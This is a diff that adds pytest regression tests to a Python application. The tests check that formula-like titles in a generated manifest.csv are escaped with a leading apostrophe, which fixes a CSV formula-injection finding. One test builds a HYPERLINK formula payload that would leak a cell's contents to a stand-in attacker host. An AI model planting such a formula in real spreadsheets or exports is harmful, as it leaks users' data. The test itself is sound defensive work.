@@ -261,3 +261,32 @@ def test_one_bundle_at_a_time_and_the_previous_file_is_replaced(year_report, off
     first.refresh_from_db()
     assert not first.file and second.file
     assert not second.file.storage.exists(first.file.name or "nothing")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_the_bundle_manifest_keeps_formula_like_titles_as_text(year_report, officer, start):
+    """Finding 4: a title starting with `=` went into manifest.csv as it was, and Excel (the
+    BOM makes it read the file as UTF-8) evaluated it. Now it starts with an apostrophe,
+    which the spreadsheet shows as the text it was — as the XLSX exports do."""
+    measure = year_report.plan.measures.get(code="1.2")
+    title = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    evidence_add_link(
+        organization=year_report.plan.organization, measure=measure, actor=officer,
+        link="https://example.mn/x", title=title, relates_to=dt.date(2023, 4, 12),
+    )  # fmt: skip
+    built = services.bundle_build(bundle=services.bundle_request(report=year_report, actor=None))
+    with built.file.open("rb") as handle:
+        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
+    manifest = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
+    titles = [row[4] for row in manifest[1:]]
+    assert "'" + title in titles
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in manifest for cell in row)
+
+
+def test_csv_text_leaves_numbers_alone():
+    from shudarga.core.spreadsheets import csv_text
+
+    assert csv_text(-5) == -5
+    assert csv_text("-5") == "'-5"
+    assert csv_text(None) is None
+    assert csv_text("Өдөрлөг") == "Өдөрлөг"
